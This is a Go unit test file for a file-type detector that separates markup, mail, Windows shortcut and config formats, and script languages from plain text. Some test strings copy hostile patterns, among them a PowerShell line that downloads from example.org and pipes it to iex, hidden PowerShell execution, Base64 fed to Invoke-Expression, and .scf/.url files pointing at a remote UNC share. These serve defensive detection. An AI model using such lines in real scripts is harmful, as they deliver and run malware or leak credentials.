// SPDX-License-Identifier: Apache-2.0

package filetype

import (
	"encoding/binary"
	"strings"
	"testing"
)

func TestDetectMarkup(t *testing.T) {
	for name, c := range map[string]struct{ content, want string }{
		"html":                  {"<!DOCTYPE html>\n<html><body>x</body></html>", "html"},
		"html without head":     {"  \r\n<DIV>x</DIV>", "html"},
		"html behind comment":   {"<!-- <x> --><html></html>", "html"},
		"html behind words":     {"read this:\n<html><head></head></html>", "html"},
		"nul in html":           {"\x00<\x00html><script>x</script>", "html"},
		"odd octets in html":    {"<html>\x01\x02\x03\x04\x05\x06", "html"},
		"words about html":      {"the <html> element is the root", "text"},
		"address":               {"<from@example.org> wrote:\n", "text"},
		"quoted":                {"< 5 is less\n", "text"},
		"xhtml":                 {`<?xml version="1.0"?><!DOCTYPE html PUBLIC "x"><html xmlns="http://www.w3.org/1999/xhtml"/>`, "xhtml"},
		"svg":                   {`<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>`, "svg"},
		"svg behind a subset":   {`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg/>`, "svg"},
		"svg with a prefix":     {`<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"/>`, "svg"},
		"xml":                   {`<?xml version="1.0"?><order/>`, "xml"},
		"hta":                   {`<html><head><HTA:APPLICATION ID="a"/></head></html>`, "hta"},
		"hta without html":      {`<hta:application id="a"/><script>x</script>`, "hta"},
		"wsf":                   {`<job id="x"><script language="JScript">WScript.Echo(1)</script></job>`, "script.wsf"},
		"wsf in a package":      {`<package><job><script/></job></package>`, "script.wsf"},
		"epub's package":        {`<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf"><metadata/></package>`, "xml"},
		"sct":                   {`<?XML version="1.0"?><scriptlet><registration progid="x"/></scriptlet>`, "script.sct"},
		"xsl with script":       {`<xsl:stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script>x</ms:script></xsl:stylesheet>`, "script.xsl"},
		"xsl":                   {`<?xml version="1.0"?><xsl:stylesheet version="1.0"/>`, "xml"},
		"library-ms":            {`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>`, "library-ms"},
		"search-ms":             {`<persistedQuery version="1.0"/>`, "search-ms"},
		"searchconnector":       {`<?xml version="1.0"?><searchConnectorDescription/>`, "search-ms"},
		"settingcontent":        {`<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>`, "settingcontent-ms"},
		"jnlp":                  {`<jnlp spec="1.0+" codebase="http://example.org/"/>`, "jnlp"},
		"msc":                   {`<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"/>`, "msc"},
		"csproj":                {`<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="x"/></Project>`, "msbuild"},
		"other project":         {`<?xml version="1.0"?><project name="ant"/>`, "xml"},
		"clickonce":             {`<?xml version="1.0"?><asmv1:assembly><deployment install="true"/></asmv1:assembly>`, "clickonce"},
		"webloc":                {`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "x" "y"><plist><dict><key>URL</key><string>x</string></dict></plist>`, "webloc"},
		"mobileconfig":          {`<?xml version="1.0"?><plist><dict><key>PayloadType</key></dict></plist>`, "mobileconfig"},
		"other plist":           {`<?xml version="1.0"?><plist><dict/></plist>`, "xml"},
		"flat opc":              {`<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>`, "flatopc"},
		"word 2003":             {`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>`, "officexml"},
		"flat odf":              {`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`, "odf"},
		"php":                   {"<?php system($x); ?>", "script.php"},
		"endless declaration":   {"<?xml " + strings.Repeat("a", 5000), "xml"},
		"only openings":         {strings.Repeat("<", 5000), "text"},
		"only comment starts":   {strings.Repeat("<!--", 1000), "text"},
		"message":               {"Received: from x\r\nFrom: a@example.org\r\nSubject: x\r\n\r\nbody", "eml"},
		"mailbox":               {"From a@example.org Mon Jan  1 00:00:00 2024\nReceived: by x\nFrom: a\nTo: b\n\nx", "mbox"},
		"mht":                   {"From: <Saved by a browser>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype=\"text/html\"\r\n\r\n", "mht"},
		"mht, folded":           {"MIME-Version: 1.0\r\nContent-Type:\r\n multipart/related; boundary=x\r\n\r\n", "mht"},
		"message, related":      {"Message-ID: <x@y>\r\nTo: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "eml"},
		"quoted fields":         {"From: a@example.org\nSubject: lunch\n\nshall we?", "text"},
		"calendar":              {"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "ics"},
		"card":                  {"BEGIN:VCARD\r\nVERSION:3.0\r\n", "vcard"},
		"pgp":                   {"-----BEGIN PGP MESSAGE-----\n", "pgp"},
		"uuencode":              {"begin 644 a.exe\nM35J0``,````$````__\\``+@`````````0```````````````````````````````\n`\nend\n", "uuencode"},
		"words that begin":      {"begin 2024 with a plan\nand then go on\n", "text"},
		"binhex":                {"(This file must be converted with BinHex 4.0)\n:", "binhex"},
		"yenc":                  {"=ybegin line=128 size=1 name=a\n", "yenc"},
		"postscript":            {"%!PS-Adobe-3.0\n", "ps"},
		"url":                   {"[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n", "url"},
		"url behind others":     {"[DEFAULT]\nBASEURL=x\n[InternetShortcut]\nURL=http://example.org/\n", "url"},
		"words about shortcuts": {"the section [InternetShortcut] names the URL", "text"},
		"desktop entry":         {"#!/usr/bin/env xdg-open\n[Desktop Entry]\nExec=sh\n", "desktop"},
		"scf":                   {"[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x\r\n", "scf"},
		"autorun":               {"[AutoRun]\nopen=a.exe\n", "autorun"},
		"inf":                   {"; x\n[Version]\nSignature=\"$CHICAGO$\"\n", "inf"},
		"reg":                   {"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n", "reg"},
		"rdp":                   {"screen mode id:i:2\r\nfull address:s:192.0.2.1\r\n", "rdp"},
		"iqy":                   {"WEB\r\n1\r\nhttp://example.org/x\r\n", "iqy"},
		"slk":                   {"ID;PWXL;N;E\r\nP;PGeneral\r\n", "slk"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := detectName([]byte(c.content)); got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
		})
	}
}

func TestDetectScripts(t *testing.T) {
	for name, c := range map[string]struct{ content, want string }{
		"shell":            {"#!/bin/sh\necho x\n", "script.sh"},
		"python":           {"#!/usr/bin/env python3\nprint(1)\n", "script.py"},
		"perl":             {"#! /usr/bin/perl -w\n", "script.pl"},
		"shebang in words": {"#! is how it begins\n", "text"},
		"batch":            {"@echo off\r\nstart calc\r\n", "script.bat"},
		"batch, odd mark":  {"\xff\xfe&cls\r\npowershell -w hidden x\r\n%temp%\\a.exe\r\n", "script.bat"},
		"batch, comments":  {":: x\r\nREM y\r\nset a=1\r\nif exist %temp%\\x goto :eof\r\n", "script.bat"},
		"vbs":              {"' note\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\nWScript.Quit\r\n", "script.vbs"},
		"vbs, by one line": {"On Error Resume Next\r\nx = 1\r\n", "script.vbs"},
		"jscript":          {"/* licence */ var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "script.js"},
		"javascript":       {"(function(){var a='x';return eval(a.split('').join(''));})();", "script.js"},
		"jscript, padded":  {strings.Repeat("// nothing\n", 100) + "try { var x = String.fromCharCode(1); eval(x) } catch (e) {}", "script.js"},
		"powershell":       {"# note\n$c = New-Object Net.WebClient\n$c.DownloadString('http://example.org/') | iex\n", "script.ps1"},
		"powershell, wide": {"$x = [System.Convert]::FromBase64String('eA==')\r\nInvoke-Expression $x\r\n", "script.ps1"},
		"encoded":          {"#@~^XAAAAA==-mD~kP{P", "script.encoded"},
		"autoit":           {"#NoTrayIcon\nRun(\"calc\")\n", "script.au3"},
		"applescript":      {"tell application \"Finder\"\n do shell script \"x\"\nend tell\n", "script.applescript"},
		"python by words":  {"import os\nimport sys\n\ndef main():\n    return 1\n", "script.py"},

		"letter about code":  {"Hi,\n\nyou can call eval(x) or new ActiveXObject('WScript.Shell') in JScript,\nor CreateObject(\"x\") in VBScript.\n", "text"},
		"letter with a set":  {"set a date for the meeting, please.\n\nDim light would help, and end if possible by noon.\n", "text"},
		"letter with a diff": {"--- a/x.js\n+++ b/x.js\n@@ -1 +1 @@\n-var x = eval(y);\n+var x = JSON.parse(y);\n", "text"},
		"letter with if":     {"If you want to unsubscribe, visit http://example.org/ (it takes a day).\n", "text"},
		"c program":          {"#include <stdio.h>\nint main(void) { return 0; }\n", "text"},
		"table":              {"name,amount\na,1\nb,2\n", "text"},
		"json":               {`{"function": "x", "typeof ": 1}`, "text"},
		"settings":           {"[section]\nname=value\n", "text"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := detectName([]byte(c.content)); got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
			if got := detectName(wideText(c.content, binary.LittleEndian, true)); got != c.want && c.content[0] != 0xff {
				t.Errorf("as UTF-16: got %s, want %s", got, c.want)
			}
		})
	}
}
